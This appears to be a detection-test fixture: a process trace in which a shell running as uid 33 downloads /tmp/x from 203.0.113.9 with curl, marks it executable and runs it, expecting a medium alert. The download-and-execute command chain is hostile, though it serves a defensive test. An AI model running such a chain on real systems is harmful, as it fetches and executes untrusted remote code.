# Fetched with curl, made executable by another helper, run by the shell.
sh is /bin/bash uid=33
sh fork curl
curl exec /usr/bin/curl "curl -o /tmp/x http://203.0.113.9/x"
curl connect tcp:10.0.0.1:40000>203.0.113.9:80
curl receive tcp:10.0.0.1:40000>203.0.113.9:80 bytes=90000
curl write /tmp/x bytes=90000
sh fork chmod
chmod exec /bin/chmod "chmod +x /tmp/x"
chmod chmod /tmp/x
sh write /tmp/x bytes=1
sh fork x
x exec /tmp/x
expect medium ran what its lineage had written
